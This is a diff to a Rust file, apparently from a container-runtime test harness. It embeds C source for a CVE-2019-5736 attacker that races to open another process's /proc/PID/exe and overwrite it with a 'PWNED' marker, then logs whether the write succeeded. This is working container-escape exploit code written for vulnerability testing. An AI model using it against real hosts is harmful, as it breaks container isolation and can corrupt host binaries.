@@ -307,3 +307,73 @@ pub fn secret_in_session_keyring(cmd: &mut Command, desc: &str, secret: &str) {
         });
     }
 }
+
+/// The CVE-2019-5736 attacker as a static program that wins the race by
+/// spinning (for callers whose victim cannot be held, e.g. under podman,
+/// where conmon reads the victim's output): it opens `/proc/PID/exe` of
+/// the newest pids of its pid namespace (`ns_last_pid`) until one is not
+/// busybox and not itself (for up to 40 s: the caller may run the victim
+/// several times), then reopens it for writing, retrying while ETXTBSY
+/// (up to 12 s).
+/// Reports to the file `argv[1]` as [`EXE_OVERWRITE`] does (`opened`,
+/// `written` or `refused: <error>`, `done`; the link in `argv[1].link`).
+pub const EXE_OVERWRITE_C: &str = r#"
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+static double now(void) {
+    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec + t.tv_nsec / 1e9;
+}
+static void report(const char *file, const char *mode, const char *line) {
+    FILE *f = fopen(file, mode); if (f) { fputs(line, f); fclose(f); }
+}
+int main(int argc, char **argv) {
+    if (argc < 2) return 2;
+    char self[512] = "", link[512] = "", path[64], msg[600];
+    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
+    if (n > 0) self[n] = 0;
+    double start = now();
+    int fd = -1;
+    while (fd < 0) {
+        /* The newest pids of this pid namespace: the victim is one. */
+        int last = 0;
+        FILE *lp = fopen("/proc/sys/kernel/ns_last_pid", "r");
+        if (lp) { if (fscanf(lp, "%d", &last) != 1) last = 0; fclose(lp); }
+        int lo = last > 6 ? last - 4 : 2, hi = last > 0 ? last + 4 : 400;
+        for (int pid = lo; pid < hi && fd < 0; pid++) {
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            int f = open(path, O_RDONLY | O_CLOEXEC);
+            if (f < 0) continue;
+            n = readlink(path, link, sizeof link - 1);
+            if (n <= 0) { close(f); continue; }
+            link[n] = 0;
+            if (strstr(link, "busybox") || strcmp(link, self) == 0) { close(f); continue; }
+            fd = f;
+        }
+        if (fd < 0 && now() - start > 40) { report(argv[1], "w", "never-found\n"); return 0; }
+    }
+    snprintf(msg, sizeof msg, "%s.link", argv[1]);
+    report(msg, "w", link);
+    report(argv[1], "w", "opened\n");
+    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    start = now();
+    for (;;) {
+        int w = open(path, O_WRONLY | O_TRUNC);
+        if (w >= 0) {
+            (void)!write(w, "PWNED", 5); close(w);
+            report(argv[1], "a", "written\n"); break;
+        }
+        if (errno != ETXTBSY || now() - start > 12) {
+            snprintf(msg, sizeof msg, "refused: %s\n", strerror(errno));
+            report(argv[1], "a", msg); break;
+        }
+        usleep(2000);
+    }
+    report(argv[1], "a", "done\n");
+    return 0;
+}
+"#;
